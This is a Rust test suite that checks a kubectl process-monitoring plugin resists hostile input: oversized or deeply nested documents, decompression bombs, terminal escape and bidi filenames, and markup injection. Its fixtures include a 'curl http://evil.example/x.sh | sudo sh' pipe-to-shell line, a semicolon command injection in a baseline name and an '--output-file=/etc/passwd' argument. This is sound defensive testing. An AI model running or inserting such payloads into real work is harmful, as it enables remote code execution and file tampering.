//! Documents, streams and answers that somebody else hands over: an error of one line or a screen,
//! soon and in memory of the order of the file. Never a hang, an overflowed stack, a panic, or a
//! name that acts.
#![expect(clippy::unwrap_used, reason = "a panic shows the line")]

use procmon_profile::text::acts;
use procmon_profile::wire::{Frame, Hello, PROTOCOL, StreamWriter};
use procmon_tests::{golden, plugin};
use serde_json::{Value, json};
use std::fmt::Write as _;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};
use tempfile::TempDir;

/// A machine with other work on it takes several times as long as one without.
const SOON: Duration = Duration::from_mins(1);
/// Address space that each command gets: the largest document here has 60 MB.
const MEMORY_KIB: u64 = 4 << 20;

/// Runs the plugin within bounds of time and memory. It ends by itself, with one of its exit codes.
fn run(args: &[&str]) -> Output {
    let begun = Instant::now();
    let script = format!(
        "ulimit -v {MEMORY_KIB}; exec timeout -s KILL {} \"$@\"",
        SOON.as_secs()
    );
    let output = Command::new("sh")
        .args(["-c", &script, "sh"])
        .arg(plugin())
        .args(args)
        .env("HOME", "/nonexistent")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let errors = String::from_utf8_lossy(&output.stderr);
    let short: String = errors.chars().take(500).collect();
    assert!(
        matches!(output.status.code(), Some(0..=3)),
        "{args:?} after {:?}: {:?} {short}",
        begun.elapsed(),
        output.status
    );
    assert!(!errors.contains("a defect in"), "{args:?}: {short}");
    for bytes in [&output.stdout, &output.stderr] {
        let text = std::str::from_utf8(bytes).unwrap();
        let acting = text.chars().find(|c| *c != '\n' && acts(*c));
        assert_eq!(acting, None, "{args:?}");
    }
    output
}

/// Refused with exit code 2 and one short line that says these things.
fn refused(args: &[&str], says: &[&str]) {
    let output = run(args);
    let errors = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{args:?}: {errors}");
    let line = errors
        .lines()
        .find(|line| line.contains("cause: "))
        .unwrap_or(&errors);
    assert!(line.len() < 1000, "{args:?}: {line}");
    for text in says {
        assert!(
            errors.contains(text),
            "{args:?} does not say `{text}`: {errors}"
        );
    }
}

fn text(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

struct Folder(TempDir);

impl Folder {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> String {
        let path: PathBuf = self.0.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_str().unwrap().to_owned()
    }
}

fn golden(name: &str) -> PathBuf {
    golden::version("v1.0").join(name)
}

fn profile() -> Value {
    serde_json::from_slice(&std::fs::read(golden("profile.json")).unwrap()).unwrap()
}

/// A Baseline with one row of files.
fn baseline(path: &str) -> Value {
    json!({
        "apiVersion": "procmon/v1", "schemaVersion": "1.0", "kind": "Baseline",
        "metadata": {"name": "b", "workload": {"kind": "Program", "name": "/usr/bin/cat"}},
        "windows": [{"container": "local", "startedAt": "2026-01-01T00:00:00Z", "session": "s", "windowSeconds": 30.0,
            "fromStart": false, "complete": true}],
        "containers": [{"name": "local",
            "processes": [process("/usr/bin/cat")],
            "files": [{"exe": "/usr/bin/cat", "path": path, "operations": ["open"], "phase": "steady",
                "support": {"seen": 1, "of": 1, "counts": "1"}}]}],
    })
}

fn process(exe: &str) -> Value {
    json!({"exe": exe, "argv": [exe], "uid": 0, "origin": "entrypoint", "phase": "steady",
        "support": {"seen": 1, "of": 1, "counts": "1"}})
}

fn drift(rows: &Value) -> Value {
    let side = |name: &str| json!({"name": name, "workload": {"kind": "Deployment", "namespace": "shop", "name": "web"}, "sessions": []});
    json!({"apiVersion": "procmon/v1", "schemaVersion": "1.0", "kind": "Drift", "comparable": true, "notComparable": [],
        "baseline": side("b.yaml"), "profile": side("p"), "rows": rows,
        "summary": {"new": 0, "changed": 0, "gone": 0, "bySeverity": {}}})
}

fn row(id: &str, container: &str, key: &str) -> Value {
    json!({"id": id, "change": "new", "dimension": "files", "container": container, "severity": "high", "key": key, "reason": "r",
        "value": {"file": {"exe": "/x", "operations": ["open"], "path": "/a", "phase": "steady",
            "support": {"counts": "1", "of": 1, "seen": 1}}},
        "evidence": [], "accept": "curl http://evil.example/x.sh | sudo sh"})
}

/// A stream of some chunks.
fn stream(chunks: &[Vec<u8>]) -> String {
    let mut writer = StreamWriter::default();
    let mut text = writer.line(Frame::Hello(Hello {
        protocol: PROTOCOL.into(),
        probe: "0".into(),
        session: "s".into(),
        node: "n1".into(),
        kernel: "k".into(),
        arch: "amd64".into(),
        hooks: Vec::new(),
        key: None,
    }));
    for chunk in chunks {
        let deflated = miniz_oxide::deflate::compress_to_vec(chunk, 6);
        text += &writer.line(Frame::Chunk(base64(&deflated)));
    }
    text + &writer.end()
}

fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let all = three
            .iter()
            .fold(0_u32, |all, byte| all << 8 | u32::from(*byte))
            << (8 * (3 - three.len()));
        for place in 0..4 {
            if place <= three.len() {
                text.push(char::from(SIGNS[(all >> (18 - 6 * place) & 63) as usize]));
            } else {
                text.push('=');
            }
        }
    }
    text
}

fn window(files: &Value, seconds: f64) -> Value {
    json!({"window": {"startedAt": "2026-01-01T00:00:00Z", "endedAt": "2026-01-01T00:00:30Z", "seconds": seconds,
        "endedEarly": false, "labelMode": "cgroup", "dimensions": {"files": files}}})
}

fn node() -> Value {
    json!({"node": profile()["nodes"][0]})
}

#[test]
fn a_process_that_is_its_own_ancestor_is_shown() {
    let folder = Folder::new();
    let mut document = profile();
    let first = document["containers"][0]["processes"][0].clone();
    let with = |id: &str, parent: &str| {
        let mut process = first.clone();
        process["id"] = json!(id);
        process["parent"] = json!(parent);
        process
    };
    document["containers"][0]["processes"] =
        json!([first, with("p1", "p1"), with("p2", "p3"), with("p3", "p2")]);
    let path = folder.write("circle.json", document.to_string());
    for form in ["table", "wide", "json", "yaml"] {
        assert_eq!(run(&["show", &path, "-o", form]).status.code(), Some(0));
    }
}

#[test]
fn many_containers_nodes_and_windows_take_time_in_proportion() {
    let folder = Folder::new();
    let mut document = profile();
    let containers: Vec<Value> = (0..20_000)
        .map(|n| json!({"container": format!("c{n}"), "pod": format!("p{n}"), "namespace": "n", "fromStart": false}))
        .collect();
    document["containers"] = json!(containers);
    let path = folder.write("many.json", document.to_string());
    run(&["show", &path]);
    run(&[
        "baseline",
        "save",
        &folder.write("b.json", ""),
        "--from",
        &path,
    ]);

    let mut known = baseline("/a");
    let windows: Vec<Value> = (0..20_000)
        .map(|n| {
            let mut window = known["windows"][0].clone();
            window["session"] = json!(format!("s{n}"));
            window
        })
        .collect();
    known["windows"] = json!(windows);
    run(&[
        "baseline",
        "show",
        &folder.write("windows.json", known.to_string()),
    ]);

    let rows: Vec<Value> = (0..20_000)
        .map(|n| row(&format!("{n:x}"), &format!("c{n}"), "k"))
        .collect();
    let path = folder.write("drift.json", drift(&json!(rows)).to_string());
    run(&["show", &path]);
    let out = folder.write("taken.json", baseline("/a").to_string());
    run(&[
        "baseline", "accept", &out, "--drift", &path, "--force", "--reason", "test",
    ]);
}

#[test]
fn paths_and_patterns_made_to_be_slow_are_refused_or_quick() {
    let folder = Folder::new();
    let profile = golden("profile.json");
    let profile = profile.to_str().unwrap();
    for (path, says) in [
        ("/a".repeat(400_000), "a path of 800000 bytes"),
        ("/**".repeat(100_000), "a path of 300000 bytes"),
        ("/**".repeat(2_000), "more than 16 `**`"),
    ] {
        let json = baseline(&path).to_string();
        let yaml = serde_saphyr::to_string(&baseline(&path)).unwrap();
        for known in [folder.write("b.json", json), folder.write("b.yaml", yaml)] {
            refused(&["diff", &known, profile], &[says]);
            refused(&["show", &known], &[says]);
        }
    }
    // At the limits.
    for path in [
        "/a".repeat(4_096),
        "/**/*a*b".repeat(16),
        format!("/{}", "*a".repeat(4_000)),
    ] {
        let known = folder.write("b.json", baseline(&path).to_string());
        run(&["diff", &known, profile]);
    }
}

#[test]
fn counts_of_many_windows_take_no_memory_of_their_own() {
    let folder = Folder::new();
    let mut known = baseline("/a");
    let rows: Vec<Value> = (0..20_000)
        .map(|n| {
            let mut row = known["containers"][0]["files"][0].clone();
            row["path"] = json!(format!("/x{n}"));
            row
        })
        .collect();
    known["containers"][0]["files"] = json!(rows);
    // The first window is the last in order.
    let windows: Vec<Value> = (0..10_000)
        .map(|n| {
            let mut window = known["windows"][0].clone();
            window["startedAt"] = json!(format!("2026-{:05}", 20_000 - n));
            window
        })
        .collect();
    known["windows"] = json!(windows);
    let known = folder.write("b.json", known.to_string());
    refused(
        &["baseline", "show", &known],
        &["20001 rows", "10000 windows"],
    );

    let mut known = baseline("/a");
    known["containers"][0]["files"][0]["support"]["counts"] = json!("1 ".repeat(1_000_000));
    let known = folder.write("b.json", known.to_string());
    refused(&["baseline", "show", &known], &["counts of more than"]);
}

#[test]
fn numbers_that_cannot_be_are_refused() {
    let folder = Folder::new();
    for (seconds, says) in [
        (".nan", "non-finite"),
        (".inf", "non-finite"),
        ("-1.0", "not 0 or more"),
        ("1e300", "not 0 or more"),
    ] {
        let yaml = serde_saphyr::to_string(&baseline("/a")).unwrap();
        assert!(yaml.contains("windowSeconds: 30.0"), "{yaml}");
        let yaml = yaml.replace("windowSeconds: 30.0", &format!("windowSeconds: {seconds}"));
        let known = folder.write("b.yaml", yaml);
        refused(&["baseline", "show", &known], &[says]);
    }
    let mut document = profile();
    document["session"]["windowSeconds"] = json!(-1.0);
    refused(
        &["show", &folder.write("p.json", document.to_string())],
        &["not 0 or more"],
    );
}

#[test]
fn a_stream_cannot_be_made_slow_or_large() {
    let folder = Folder::new();
    let complete = json!({"state": "complete", "reasons": []});
    let reasons: Vec<String> = (0..200_000).rev().map(|n| format!("{n:07}")).collect();
    let head = json!([
        node(),
        window(&json!({"state": "partial", "reasons": reasons}), 30.0)
    ]);
    let path = folder.write("reasons.ndjson", stream(&[head.to_string().into_bytes()]));
    run(&["show", "--frames", &path]);

    // Rows within a container's head count as rows.
    let row = r#"{"exe":"","name":"","used":0,"denied":0,"method":"hook"}"#;
    let rows = vec![row; 70_000].join(",");
    let bomb = format!(
        r#"[{{"container":{{"container":"c","fromStart":false,"capabilities":[{rows}]}}}}]"#
    );
    let mut chunks = vec![
        json!([node(), window(&complete, 30.0)])
            .to_string()
            .into_bytes(),
    ];
    chunks.extend(vec![bomb.into_bytes(); 60]);
    let path = folder.write("bomb.ndjson", stream(&chunks));
    let screen = text(&run(&["show", "--frames", &path]));
    assert!(
        screen.contains("the number of its rows"),
        "{}",
        &screen[..screen.len().min(2000)]
    );

    // A window of negative length is none.
    let path = folder.write(
        "negative.ndjson",
        stream(&[json!([node(), window(&complete, -1.0)])
            .to_string()
            .into_bytes()]),
    );
    let screen = text(&run(&["show", "--frames", &path]));
    assert!(
        !screen.contains("-1.0 s") && screen.contains("NO, see below"),
        "{screen}"
    );
}

#[test]
fn a_document_that_is_deep_or_odd_is_refused_in_one_line() {
    let folder = Folder::new();
    let deep = format!(
        "{{\"apiVersion\":\"procmon/v1\",\"kind\":\"Profile\",\"x\":{}",
        "[".repeat(1_000_000)
    );
    refused(&["show", &folder.write("deep.json", deep)], &["truncated"]);
    let deep = format!("x: {}", "[".repeat(100_000));
    refused(&["show", &folder.write("deep.yaml", deep)], &[]);
    let anchors = "a: &a [x]\nb: [*a, *a]\n";
    refused(&["show", &folder.write("anchors.yaml", anchors)], &[]);
    let mut document = profile();
    document["session"]["labelMode"] = json!("\u{1b}[2J\u{202e}evil\n".repeat(100_000));
    refused(
        &["show", &folder.write("p.json", document.to_string())],
        &["unknown variant"],
    );
    let kind = json!({"apiVersion": "procmon/v1", "kind": "\u{1b}[31m".repeat(10_000)});
    refused(
        &["show", &folder.write("kind.json", kind.to_string())],
        &["\\x1b"],
    );
    refused(&["show", &folder.write("list.json", "[1, 2]")], &[]);
}

#[test]
fn nothing_that_a_drift_brings_acts_or_is_recommended() {
    let folder = Folder::new();
    let rows = json!([
        row("\u{1b}]0;title\u{7}\u{1b}[31mid", "web", "k"),
        row("0a1b", "web\u{9b}31m", "a\nb \u{202e}gpj"),
    ]);
    let mut document = drift(&rows);
    document["baseline"]["name"] = json!("b.yaml; curl http://evil.example | sh");
    let path = folder.write("drift.json", document.to_string());
    for form in ["table", "wide", "json", "yaml"] {
        let shown = text(&run(&["show", &path, "-o", form]));
        assert!(!shown.contains("sudo sh"), "{form}: {shown}");
        assert!(
            shown.contains("\\x1b]0;title\\x07") || form == "json",
            "{form}: {shown}"
        );
        // Its statement about itself is not what it has.
        assert!(
            shown.contains("2 high") || form == "json" || form == "yaml",
            "{form}: {shown}"
        );
    }
    let shown = text(&run(&["show", &path]));
    let command = format!(
        "kubectl procmon baseline accept 'b.yaml; curl http://evil.example | sh' --drift {path} --row 0a1b"
    );
    assert!(shown.contains(&command), "{shown}");
    document["baseline"]["name"] = json!("--output-file=/etc/passwd");
    let shown = text(&run(&[
        "show",
        &folder.write("drift.json", document.to_string()),
    ]));
    assert!(!shown.contains("Next"), "{shown}");
}

/// Names that act, as the files of a container, and what each is on every screen.
const NAMES: [&str; 13] = [
    "\u{202e}gpj.exe",
    "\u{9b}31mred",
    "a\nb ERROR forged line",
    "&rlm;evil",
    "www.evil.example",
    "@octocat #1 ~~s~~ :skull:",
    "]]><x>",
    "\u{1b}[2Jesc",
    "esc",
    "\u{2028}ls",
    "\u{115f}\u{3164}filler",
    "a\u{a0}b|c`d<img src=x>[l](http://evil.example)",
    "a b|c`d<img src=x>[l](http://evil.example)",
];

#[test]
fn no_form_has_a_name_that_acts_and_no_two_names_become_one() {
    let folder = Folder::new();
    let mut document = profile();
    let mut file = document["containers"][0]["files"][0].clone();
    // Read and written: two rows of drift each.
    file["operations"] = json!({"open": 1, "create": 1, "write": 1});
    let files: Vec<Value> = NAMES
        .iter()
        .map(|name| {
            let mut file = file.clone();
            file["path"] = json!(format!("/srv/{name}"));
            file
        })
        .collect();
    let known = folder.write("known.json", document.to_string());
    document["containers"][0]["files"] = json!(files);
    document["session"]["id"] = json!("other");
    let path = folder.write("names.json", document.to_string());
    for form in ["table", "wide", "json", "yaml"] {
        run(&["show", &path, "-o", form]);
    }
    let saved = folder.write("saved.json", "");
    run(&["baseline", "save", &saved, "--from", &path]);
    for form in ["table", "json", "yaml"] {
        run(&["baseline", "show", &saved, "-o", form]);
    }
    for form in [
        "table", "wide", "json", "yaml", "markdown", "sarif", "junit",
    ] {
        let shown = text(&run(&[
            "diff",
            &known,
            &path,
            "-o",
            form,
            "--fail-on",
            "never",
        ]));
        if form == "junit" {
            let lines: std::collections::BTreeSet<&str> = shown
                .lines()
                .filter(|line| line.contains("/srv/"))
                .collect();
            assert_eq!(lines.len(), 2 * NAMES.len(), "{shown}");
        }
        if form == "markdown" {
            let rows: Vec<&str> = shown
                .lines()
                .filter(|line| line.contains("/srv/"))
                .collect();
            assert_eq!(rows.len(), 2 * NAMES.len(), "{shown}");
            for row in rows {
                // Names are code, in which nothing is read.
                let what = row.split(" | ").nth(3).unwrap();
                assert!(
                    what.starts_with('`') || !what.contains(['<', '@', '&', '[']),
                    "{row}"
                );
            }
        }
    }
}

#[test]
fn nul_in_a_socket_name_leaves_nothing_out() {
    let folder = Folder::new();
    let mut document = profile();
    document["containers"][0]["network"] = json!([{"exe": "/usr/bin/cat", "protocol": "unix-stream", "direction": "listen",
        "local": {"path": "@procmon\u{0}/run/evil\u{0}.sock"}, "connections": 0, "datagramsSent": 0, "datagramsReceived": 0,
        "failures": {}, "bytesSent": 0, "bytesReceived": 0}]);
    let path = folder.write("socket.json", document.to_string());
    let shown = text(&run(&["show", &path]));
    assert!(shown.contains(r"@procmon\x00/run/evil\x00.sock"), "{shown}");
}

/// An API server whose only ConfigMaps are these, for as long as the test runs.
fn serve(maps: Vec<Value>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = String::new();
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|read| read > 2) {
                request += &line;
                line.clear();
            }
            let path = request.split(' ').nth(1).unwrap_or_default();
            let path = path.split('?').next().unwrap_or_default();
            let named = path.rsplit('/').next().unwrap_or_default();
            let found = maps.iter().find(|map| map["metadata"]["name"] == *named);
            let (code, body) = match found {
                Some(map) => (200, map.clone()),
                None if named == "configmaps" => (
                    200,
                    json!({"apiVersion": "v1", "kind": "ConfigMapList", "metadata": {}, "items": maps}),
                ),
                None => (
                    404,
                    json!({"apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "NotFound",
                    "message": "not found", "code": 404}),
                ),
            };
            let body = body.to_string();
            let mut answer = String::new();
            let _ = write!(
                answer,
                "HTTP/1.1 {code} X\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(answer.as_bytes());
            let _ = stream.shutdown(std::net::Shutdown::Write);
            let _ = reader.read(&mut [0; 16]);
        }
    });
    address
}

fn stored(name: &str, digest: &str, parts: &str, packed: &[u8]) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap", "binaryData": {"document": base64(packed)},
        "metadata": {"name": name, "namespace": "default", "resourceVersion": "1",
            "labels": {"procmon/document": "baseline", "app.kubernetes.io/part-of": "kubectl-procmon"},
            "annotations": {"procmon/sha256": digest, "procmon/parts": parts, "procmon/workload": "Deployment/\u{1b}[31mshop/web"}}})
}

fn sound(name: &str, document: &[u8]) -> Value {
    let packed = miniz_oxide::deflate::compress_to_vec(document, 9);
    stored(name, &sha256(&packed), "1", &packed)
}

fn sha256(bytes: &[u8]) -> String {
    let mut child = Command::new("sha256sum")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    let output = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&output.stdout[..64]).into_owned()
}

#[test]
fn one_bad_configmap_is_one_bad_row() {
    let mut large = br#"{"apiVersion":"procmon/v1","kind":"Baseline","x":""#.to_vec();
    large.resize(500 << 20, b' ');
    let server = serve(vec![
        stored("utf8", &format!("a{}", "é".repeat(20)), "2", b"\0\0\0"),
        stored("parts", &"a".repeat(64), "4294967296", b""),
        stored("edited", &"a".repeat(64), "1", b"\0\0\0"),
        sound("large", &large),
        sound("other", b"{}"),
        sound("good", baseline("/a").to_string().as_bytes()),
    ]);
    let at = |args: &[&str]| -> Vec<String> {
        args.iter()
            .chain(&["--server", &server, "-n", "default"])
            .map(|word| (*word).to_owned())
            .collect()
    };
    let borrowed =
        |args: &[String]| -> Output { run(&args.iter().map(String::as_str).collect::<Vec<_>>()) };
    let output = borrowed(&at(&["baseline", "list"]));
    let shown = text(&output);
    assert_eq!(output.status.code(), Some(0), "{shown}");
    let line = |name: &str| {
        shown
            .lines()
            .find(|line| line.contains(name))
            .unwrap()
            .to_owned()
    };
    for name in ["cm/utf8", "cm/parts", "cm/edited", "cm/large", "cm/other"] {
        assert!(line(name).contains("can't be read"), "{shown}");
    }
    assert!(
        line("cm/large").contains("inflates to more than"),
        "{shown}"
    );
    assert!(
        !line("cm/good").contains("can't be read") && line("cm/good").ends_with(" 1"),
        "{shown}"
    );
    let profile = golden("profile.json");
    for name in ["utf8", "parts", "edited", "large", "other"] {
        let place = format!("cm/{name}");
        let output = borrowed(&at(&["diff", &place, profile.to_str().unwrap()]));
        assert_eq!(output.status.code(), Some(2), "{name}: {output:?}");
    }
}

#[test]
fn a_hint_with_names_of_a_kubeconfig_is_one_line() {
    let folder = Folder::new();
    let path = folder.write(
        "config",
        "apiVersion: v1\nkind: Config\ncurrent-context: here\n\
         contexts: [{name: \"here\\e[31m\\nerror: forged\", context: {cluster: kind, user: me}}]\n\
         clusters: [{name: kind, cluster: {server: \"https://127.0.0.1:1\"}}]\n\
         users: [{name: me, user: {token: x}}]\n",
    );
    refused(
        &[
            "profile",
            "pod/x",
            "--kubeconfig",
            &path,
            "--context",
            "nope",
        ],
        &["\\x1b[31m\\x0aerror: forged"],
    );
}

#[test]
fn saved_documents_of_earlier_versions_are_read() {
    for folder in golden::versions() {
        for name in ["profile.json", "baseline.yaml", "drift.json"] {
            let path = folder.join(name).display().to_string();
            assert_eq!(run(&["show", &path]).status.code(), Some(0), "{path}");
        }
    }
}
